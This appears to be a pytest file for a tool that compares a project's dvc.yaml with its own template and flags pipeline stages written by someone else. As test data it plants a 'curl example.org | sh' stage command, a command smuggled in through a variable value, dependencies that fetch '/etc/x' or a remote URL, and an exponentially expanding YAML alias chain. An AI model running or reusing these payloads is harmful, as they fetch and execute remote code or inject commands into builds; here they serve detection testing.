"""A project's dvc.yaml beside the road of this prep: what is offered, and what goes on working."""

import itertools
import shutil

import pytest
import yaml
from conftest import write_params, write_pictures
from dvc.repo import Repo

from pipeline.checks.road import tell_differences, tell_road
from pipeline.commands.init import init_project

FETCHED = "{deps: [{path: /etc/x}], outs: [{path: y}]}"
OLDER = {  # as prep 0.1.0 had it
    "train": {
        "foreach": "${experiments}",
        "do": {
            "cmd": "prep train --experiment ${key}",
            "deps": ["processed/experiments/${key}.json"],
            "params": ["train"],
            "outs": [{"processed/runs/${key}": {"persist": True}}],
        },
    },
    "evaluate": {
        "foreach": "${experiments}",
        "do": {
            "cmd": "prep evaluate --experiment ${key}",
            "deps": ["processed/split.csv", "processed/runs/${key}"],
            "params": ["train"],
            "outs": ["processed/scores/${key}"],
        },
    },
}


@pytest.fixture
def older(tmp_path):
    """Make a project whose dvc.yaml trains and evaluates each experiment by itself."""
    folder = tmp_path / "project"
    init_project(folder, "blank")
    for empty in ("first", "second"):
        shutil.rmtree(folder / "raw/pictures" / empty)
    write_params(folder)
    write_pictures(folder)
    road = yaml.safe_load((folder / "dvc.yaml").read_text())
    road["stages"] |= OLDER
    (folder / "dvc.yaml").write_text(yaml.safe_dump(road, sort_keys=False))
    return folder


def test_an_older_road_is_kept_and_the_new_one_offered(older):
    before = (older / "dvc.yaml").read_bytes()
    said = init_project(older, "blank")
    assert (older / "dvc.yaml").read_bytes() == before
    assert "stages train differ" in said
    assert "rename dvc.yaml (your changes are in it) and run prep init ." in said
    assert "one stage, train, trains and tests all experiments" in said
    (older / "dvc.yaml").unlink()
    assert "differ" not in init_project(older, "blank")
    assert list(tell_road(older)) == []


def test_what_an_older_road_runs_is_no_strangers_doing(older):
    assert not any("isn't yours" in sentence for sentence in tell_differences(older))
    road = yaml.safe_load((older / "dvc.yaml").read_text())
    road["stages"]["evaluate"]["do"]["cmd"] = "curl example.org | sh"
    (older / "dvc.yaml").write_text(yaml.safe_dump(road))
    assert any("isn't yours" in sentence for sentence in tell_differences(older))


@pytest.mark.slow
def test_an_older_road_goes_on_working(older):
    import os
    import subprocess
    import sys
    from pathlib import Path

    place = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
    done = subprocess.run(
        [sys.executable, "-m", "dvc", "repro", "compare"],
        cwd=older, env=os.environ | {"PATH": place}, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    for name in ("none", "flip", "rotate"):
        assert (older / f"processed/scores/{name}/metrics.json").exists()
    assert "evaluate@flip" in (older / "dvc.lock").read_text()
    assert (older / "processed/ablation.md").exists()


# --- What is not of the road -------------------------------------------------------------------


@pytest.fixture(scope="module")
def plain(tmp_path_factory):
    folder = tmp_path_factory.mktemp("road") / "project"
    init_project(folder, "blank")
    return folder


@pytest.fixture
def folder(plain, tmp_path):
    """A project as `prep init` makes it, without any file of DVC's of its own."""
    return shutil.copytree(plain, tmp_path / "project")


def strangers(folder):
    """Return what is said of what is not of the road, and hold it against DVC's own index."""
    said = next((one for one in tell_differences(folder) if "isn't yours" in one), "")
    try:
        with Repo(str(folder)) as repo:
            stages = [one for one in repo.index.stages if one.path != str(folder / "dvc.yaml")]
    except Exception:  # noqa: BLE001  # a broken file stops DVC as a whole
        stages = []
    for stage in stages:
        assert not stage.cmd or str(stage.cmd)[:9] in said
    return said


def test_a_project_as_it_was_made_has_no_strangers(folder):
    assert strangers(folder) == ""


def test_a_stage_that_somebody_added_is_named_with_its_command(folder):
    road = yaml.safe_load((folder / "dvc.yaml").read_text())
    (folder / "sub").mkdir()
    (folder / "more.yaml").write_text("{hidden: {word: ran}}")
    road["stages"]["extra"] = {"cmd": "touch ran", "wdir": "sub"}
    road["stages"]["ingest"]["cmd"] = "prep ingest; touch ${hidden.word}"
    road["stages"]["split"]["wdir"] = "sub"
    road["stages"]["augment"]["foreach"] = {"flip_touch": {}}
    road["vars"] = ["more.yaml"]
    (folder / "dvc.yaml").write_text(yaml.safe_dump(road))
    said = strangers(folder)
    assert f"  dvc.yaml: stage 'extra': cmd: 'touch ran', in {folder / 'sub'}\n" in said
    assert "  dvc.yaml: stage 'ingest': cmd: 'prep ingest; touch ran'\n" in said
    assert f"  dvc.yaml: stage 'split': cmd: 'prep split', in {folder / 'sub'}" in said
    assert "  dvc.yaml: stage 'augment@flip_touch': cmd: 'prep augment --only flip_touch'" in said
    assert "stage 'balance'" not in said


def test_ops_that_come_by_the_way_of_variables_are_named(folder):
    road = yaml.safe_load((folder / "dvc.yaml").read_text())
    (folder / "more.yaml").write_text("{augment: {x;touch_ran: {}}}")
    road["vars"] = ["more.yaml"]
    (folder / "dvc.yaml").write_text(yaml.safe_dump(road))
    assert "touch_ran" in strangers(folder)


@pytest.mark.parametrize(
    ("where", "ignored"),
    [
        ("models/in", ""),
        (".hidden", ""),
        (".hg", "!.hg"),
        (".hg", "!/.hg/"),
        ("deep/.hg/below", "!**/.hg"),
        ("build", "build\n!build"),
        ("models/.git", "!.git"),
    ],
)
@pytest.mark.parametrize("file", ["dvc.yaml", "fetched.dvc"])
def test_stages_anywhere_that_dvc_looks_are_named(folder, where, ignored, file):
    """`dvc repro` runs them too where they make an input of the road."""
    (folder / ".dvcignore").write_text(f"{ignored}\n")
    place = folder / where / file
    place.parent.mkdir(parents=True)
    stages = "stages: {extra: {cmd: touch ran}}" if file == "dvc.yaml" else FETCHED
    place.write_text(stages)
    assert f"  {where}/{file}: " in strangers(folder)
    (folder / ".dvcignore").write_text(f"{where.split('/')[0]}\n")
    assert strangers(folder) == "", "DVC does not look there any more"


def test_what_git_ignores_dvc_does_not_run(folder):
    (folder / "processed/dvc.yaml").write_text("stages: {extra: {cmd: touch ran}}")
    assert strangers(folder) == ""


def test_what_is_fetched_is_named_and_what_cannot_be_read(folder):
    (folder / "kept.dvc").write_text("outs: [{path: kept}]")
    (folder / "frozen.dvc").write_text("{frozen: true, deps: [{path: /etc/x}], outs: [{path: x}]}")
    (folder / "fetched.dvc").write_text(FETCHED)
    (folder / "old.dvc").write_text("{cmd: touch ran, outs: [{path: o}]}")  # as DVC 0 had it
    (folder / "far.dvc").write_text("{deps: [{path: 'https://example.org/x'}], outs: [{path: z}]}")
    (folder / "broken.dvc").write_text("[")
    said = strangers(folder)
    assert "  fetched.dvc: fetches ['/etc/x']" in said
    assert "  far.dvc: fetches ['https://example.org/x']" in said
    assert "  old.dvc: it can't be read" in said
    assert "  broken.dvc: it can't be read" in said
    assert not any(name in said for name in ("kept.dvc", "frozen.dvc"))


def test_what_a_stranger_writes_is_shown_short(folder):
    deep = "a: &a [x, x, x, x, x, x, x, x]\n" + "".join(
        f"{after}: &{after} [{', '.join([f'*{before}'] * 8)}]\n"
        for before, after in itertools.pairwise("abcdefghijk")
    )
    (folder / "deep.dvc").write_text(f"{deep}stages:\n  deep: {{cmd: *k}}\n")
    stages = "".join(f"  s{number}: {{cmd: 'x{'y' * 999}'}}\n" for number in range(30))
    (folder / "models/dvc.yaml").write_text(f"stages:\n{stages}")
    [said] = [one for one in tell_differences(folder) if "isn't yours" in one]
    assert "deep.dvc: it can't be read ('it swells to more than DVC could ever read')" in said
    assert "and 11 more" in said, "after the twenty that are shown"
    assert len(said) < 10_000


def test_without_dvc_or_git_what_lies_there_is_named_as_well(folder):
    (folder / "models/dvc.yaml").write_text("stages: {extra: {cmd: touch ran}}")
    shutil.rmtree(folder / ".dvc")
    assert "models/dvc.yaml: stage 'extra'" in "".join(tell_differences(folder))
    shutil.rmtree(folder / ".git")
    assert "models/dvc.yaml: stage 'extra'" in "".join(tell_differences(folder))
